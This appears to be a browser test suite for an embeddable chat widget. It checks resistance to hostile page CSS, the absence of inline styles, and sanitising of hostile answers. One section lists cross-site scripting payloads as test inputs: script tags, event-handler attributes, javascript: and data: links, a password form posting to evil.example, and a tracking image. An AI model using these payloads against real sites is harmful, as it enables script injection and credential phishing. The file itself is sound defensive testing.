import {expect} from '@open-wc/testing';
import {openChat, placeChat, visibleText} from './harness.js';

/** The page has this style while `work` runs. */
async function withStyle(css: string, work: () => Promise<void>): Promise<void> {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(css);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  try {
    await work();
  } finally {
    document.adoptedStyleSheets = document.adoptedStyleSheets.filter(other => other !== sheet);
  }
}

/** What is in front at the middle of an element. */
function inFront(element: Element, root: ShadowRoot): Element | null {
  const {left, top, width, height} = element.getBoundingClientRect();
  return root.elementFromPoint(left + width / 2, top + height / 2);
}

describe('the page around the chat', () => {
  const hostile = [
    'dragoman-chat { display: none !important }',
    '* { display: none !important; all: unset !important }',
    '* { visibility: hidden !important; opacity: 0 !important; position: absolute !important; left: -9999px !important }',
    'dragoman-chat { transform: scale(0) !important; clip-path: inset(50%) !important; content-visibility: hidden !important }',
    'body > * { pointer-events: none !important; filter: blur(9px) !important; direction: rtl !important }',
  ];
  for (const css of hostile) {
    it(`cannot hide it with ${css}`, async () => {
      // The page may hide itself; the chat is what is asked about.
      await withStyle(`${css} html, body { display: block !important; opacity: 1 !important }`, async () => {
        const chat = await placeChat();
        expect(chat.launcher.contains(inFront(chat.launcher, chat.root)), 'launcher').to.be.true;
        await chat.pressLauncher();
        expect(chat.isOpen).to.be.true;
        expect(chat.panel.contains(inFront(chat.panel, chat.root)), 'panel').to.be.true;
        expect(getComputedStyle(chat.panel).direction).to.equal('ltr');
        const {width, height} = chat.panel.getBoundingClientRect();
        expect(Math.min(width, height)).to.be.above(200);
      });
    });
  }

  it('cannot change its letters and colours', async () => {
    const look = async () => {
      const chat = await openChat({attributes: {theme: 'light'}});
      const {color, fontFamily, fontSize, letterSpacing, textTransform, textAlign} = getComputedStyle(
        chat.panel,
      );
      return {color, fontFamily, fontSize, letterSpacing, textTransform, textAlign};
    };
    const own = await look();
    const page =
      'font: 40px cursive !important; letter-spacing: 1em; text-transform: uppercase; text-align: right';
    await withStyle(`body, dragoman-chat, * { color: red !important; ${page} }`, async () => {
      expect(await look()).to.deep.equal(own);
    });
  });

  it('can hide it with its hidden attribute', async () => {
    const chat = await placeChat();
    chat.element.hidden = true;
    expect(chat.launcher.checkVisibility()).to.be.false;
  });

  it('can colour it with custom properties, and reach its parts', async () => {
    await withStyle(
      'dragoman-chat { --dragoman-surface: rgb(1, 2, 3) } dragoman-chat::part(header) { letter-spacing: 7px }',
      async () => {
        const chat = await openChat();
        expect(getComputedStyle(chat.panel).backgroundColor).to.equal('rgb(1, 2, 3)');
        expect(getComputedStyle(chat.panel.querySelector('.header')!).letterSpacing).to.equal('7px');
      },
    );
  });

  it('has every part that the contract names', async () => {
    const chat = await openChat({attributes: {starters: '["One"]', disclaimer: 'Beware'}});
    const found = new Set<string>();
    const look = (): void => {
      for (const element of chat.root.querySelectorAll('[part]'))
        for (const part of element.part) found.add(part);
    };
    look();
    const answer = await chat.ask('Hello');
    look();
    await answer.sends(
      {type: 'text', delta: 'Hi'},
      {type: 'tool', id: '1', name: 'x', state: 'done'},
      {type: 'notice', code: 'x', message: 'x', level: 'info'},
      {type: 'sources', sources: [{title: 'x'}]},
    );
    look();
    await answer.fails('server', 'x');
    look();
    expect([...found].sort()).to.deep.equal(
      [
        ...[
          'launcher',
          'badge',
          'panel',
          'header',
          'log',
          'message',
          'message-user',
          'message-assistant',
          'bubble',
        ],
        ...[
          'thinking',
          'tool',
          'sources',
          'source',
          'notice',
          'error',
          'starters',
          'composer',
          'input',
          'send',
        ],
        ...['stop', 'footer'],
      ].sort(),
    );
  });

  it('is not changed by it', async () => {
    const before = [document.head.innerHTML, document.documentElement.getAttributeNames().join()];
    const chat = await openChat();
    await chat.asks('Hello', 'Hi');
    expect([document.head.innerHTML, document.documentElement.getAttributeNames().join()]).to.deep.equal(
      before,
    );
    expect(chat.element.children).to.have.length(0);
  });
});

describe('a strict policy of the page', () => {
  it('finds no style attribute and no style element after a whole conversation', async () => {
    const chat = await openChat({attributes: {starters: '["One"]', greeting: 'Hello!', 'allow-html': true}});
    const found: string[] = [];
    const look = (): void => {
      for (const element of chat.root.querySelectorAll('[style], style, script'))
        found.push(element.outerHTML);
      if (chat.element.hasAttribute('style')) found.push('on the element itself');
    };
    look();
    const answer = await chat.ask('Hello');
    look();
    await answer.sends(
      {type: 'reasoning', delta: 'Hm.'},
      {type: 'tool', id: '1', name: 'x', state: 'done', args: {a: 1}},
      {
        type: 'text',
        delta: '# Hi\n\n<p style="color: red">x</p>\n\n| a |\n|--:|\n| 1 |\n\n- [x] done\n\n```js\n1\n```',
      },
      {type: 'sources', sources: [{title: 'x', url: 'https://example.com/'}]},
    );
    look();
    await answer.ends();
    look();
    await (await chat.ask('Again')).fails('server', 'x');
    look();
    await chat.press('Escape');
    look();
    expect(found).to.deep.equal([]);
  });
});

describe('a hostile answer', () => {
  const attacks = [
    '<script>window.attacked = 1</script>',
    '<img src="x" onerror="window.attacked = 1">',
    '<svg onload="window.attacked = 1"></svg>',
    '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
    '<style>* { display: none }</style>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<a href="javascript:window.attacked = 1">x</a>',
    '[x](javascript:window.attacked=1)',
    '[x](java\tscript:window.attacked=1)',
    '[x](data:text/html,<script>window.attacked=1</script>)',
    '![x](https://evil.example/seen.png)',
    '<div id="dragoman" class="panel" style="position:fixed;inset:0" onclick="window.attacked=1">x</div>',
    '<template><script>window.attacked = 1</script></template>',
  ];
  for (const allowed of [false, true]) {
    it(`does nothing ${allowed ? 'where HTML is allowed' : 'and is text'}`, async () => {
      const loads: string[] = [];
      const observer = new PerformanceObserver(list =>
        loads.push(...list.getEntries().map(({name}) => name)),
      );
      observer.observe({type: 'resource'});
      const attributes: Record<string, true> = allowed ? {'allow-html': true} : {};
      const chat = await openChat({attributes});
      const answer = await chat.ask('Hello');
      for (const attack of attacks) await answer.says(`${attack}\n\n`);
      await answer.ends('The end.');
      for (const link of chat.links) {
        expect(link.protocol).to.match(/^https?:$/);
        expect(link.textContent).not.to.equal('');
      }
      const forbidden =
        'script, img, svg:not(button svg), iframe, style, form, button:not(dragoman-log button), [onclick], [onerror], [id]';
      expect(
        [...chat.lastAnswer.element.querySelectorAll(forbidden)].map(({outerHTML}) => outerHTML),
      ).to.deep.equal([]);
      expect(chat.lastAnswer.element.querySelector('.panel')).to.not.exist;
      expect((window as {attacked?: unknown}).attacked).to.equal(undefined);
      loads.push(...observer.takeRecords().map(({name}) => name));
      observer.disconnect();
      expect(loads.filter(url => url.includes('evil.example'))).to.deep.equal([]);
      expect(chat.isOpen).to.be.true;
      expect(chat.lastAnswer.text).to.contain('The end.');
      if (!allowed) expect(chat.lastAnswer.text).to.contain('<script>window.attacked = 1</script>');
    });
  }

  it('sends links of other sites to a new tab that knows nothing of this one', async () => {
    const chat = await openChat();
    await chat.asks('Hello', '[out](https://example.com/) and [home](/here)');
    const [out, home] = chat.links;
    expect([out?.target, out?.rel]).to.deep.equal(['_blank', 'noopener noreferrer nofollow ugc']);
    expect([home?.target, home?.href]).to.deep.equal(['', `${location.origin}/here`]);
  });

  it('shows images only from where the page lets them come', async () => {
    const chat = await openChat({attributes: {'allow-images': `${location.origin}/public/`}});
    await chat.asks('Hello', `![ours](/public/favicon.svg) ![theirs](https://evil.example/a.png)`);
    const images = [...chat.lastAnswer.element.querySelectorAll('img')];
    expect(images.map(({alt}) => alt)).to.deep.equal(['ours']);
    expect(visibleText(chat.lastAnswer.element)).to.contain('theirs');
  });
});
